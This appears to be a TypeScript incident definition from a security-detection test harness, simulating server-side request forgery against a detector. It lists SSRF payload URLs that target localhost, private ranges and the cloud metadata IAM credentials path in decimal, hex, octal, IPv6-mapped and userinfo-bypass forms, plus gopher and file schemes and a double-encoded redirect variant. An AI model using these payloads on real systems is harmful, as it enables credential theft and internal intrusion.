import { MINUTE_MS } from '../core/calendar.ts';
import type { Incident } from '../core/incident.ts';

/** Addresses inside, in all the ways of writing them, with what comes back. Units: bytes, of an answer that has them. */
const FORMS: readonly (readonly [url: string, status: number, bytes?: number])[] = [
  ['http://127.0.0.1/', 403],
  ['http://localhost:8080/health', 403],
  ['http://10.0.0.5:9200/_cat/indices', 502],
  ['http://192.168.1.1/', 504],
  ['http://172.16.0.10:8500/v1/agent/self', 502],
  ['http://169.254.169.254/latest/meta-data/', 403],
  ['http://127.1/', 403],
  ['http://2130706433:8080/health', 200, 1140],
  ['http://2852039166/latest/meta-data/', 200, 2310],
  ['http://0xa9fea9fe/latest/meta-data/iam/security-credentials/', 200, 1890],
  ['http://0xa9.0xfe.0xa9.0xfe/latest/user-data', 200, 6220],
  ['http://0251.0376.0251.0376/latest/meta-data/', 400],
  ['http://[::1]:6379/', 502],
  ['http://[::ffff:169.254.169.254]/latest/meta-data/', 200, 2310],
  ['http://[::ffff:a9fe:a9fe]/latest/meta-data/iam/security-credentials/preview-role', 200, 4470],
  ['http://[::ffff:10.0.0.5]:9200/_search?size=50', 200, 38_400],
  ['http://[fe80::1]/', 504],
  ['http://metadata.google.internal/computeMetadata/v1/instance/', 403],
  ['http://images.example@169.254.169.254/latest/meta-data/', 200, 2310],
  ['gopher://127.0.0.1:6379/_INFO', 400],
  ['file:///etc/hostname', 400],
];

const INNER = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/preview-role';

/**
 * The company's own server is made to fetch what only it can reach.
 * Loud: all forms of inner addresses within minutes; some answers are much larger than a preview.
 * Quiet: one call between ordinary ones, whose address is a foreign site with the inner address as its parameter; the answer is
 * three times as large as its neighbours'. What gives it away is the parameter, decoded twice.
 */
export const ssrf: Incident = {
  id: 'ssrf',
  detectors: ['ssrf-pattern'],
  play: ({ open, roles, form, start }) => {
    const { operation, parameter, by } = roles.fetchUrl;
    const session = open(by, start);
    if (form === 'loud') {
      for (const [url, status, responseBytes] of FORMS) {
        session.call(operation, { query: { [parameter]: url }, status, ...(responseBytes === undefined ? {} : { responseBytes }) });
        session.think(9000);
      }
      return;
    }
    for (const picture of ['/p/4411.png', '/p/4412.png', undefined, '/p/4413.png']) {
      const url =
        picture === undefined
          ? `https://go.${roles.foreign.host}/r?ref=preview&to=${encodeURIComponent(INNER)}`
          : `https://img.${roles.foreign.host}${picture}`;
      session.call(operation, {
        query: { [parameter]: url },
        status: 200,
        ...(picture === undefined ? { responseBytes: 1394 } : { role: 'context' }),
      });
      session.think(3 * MINUTE_MS);
    }
  },
};
